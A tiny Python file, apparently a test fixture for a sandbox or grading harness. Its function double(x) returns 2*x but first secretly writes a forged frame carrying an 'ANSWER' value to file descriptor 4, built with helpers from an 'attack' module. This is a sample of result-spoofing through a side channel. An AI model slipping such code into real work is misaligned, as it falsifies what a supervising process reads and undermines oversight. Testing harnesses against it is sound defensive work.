import os

from attack import ANSWER, array, frame, values


def double(x):
    os.write(4, frame(0, ANSWER, values(array((4, 3), bytes(96)))))
    return 2 * x
